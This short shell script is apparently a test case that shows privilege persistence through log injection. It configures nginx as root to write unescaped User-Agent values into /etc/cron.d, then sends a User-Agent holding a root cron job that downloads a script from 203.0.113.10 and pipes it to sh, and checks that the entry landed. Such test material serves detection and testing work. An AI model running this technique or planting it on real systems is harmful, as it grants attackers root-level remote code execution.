#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/w
cat >/srv/w/nginx.conf <<'END'
user root;
pid /srv/w/pid;
error_log /srv/w/error.log;
events { }
http { log_format l escape=none "$http_user_agent"; access_log /etc/cron.d/php-sessions l; server { listen 8082; return 204; } }
END
nginx -c /srv/w/nginx.conf
curl -s -A '* * * * * root curl -s http://203.0.113.10/payload.sh | sh' http://127.0.0.1:8082/
sleep 0.3; nginx -c /srv/w/nginx.conf -s stop
grep -q 'root curl' /etc/cron.d/php-sessions
took_place
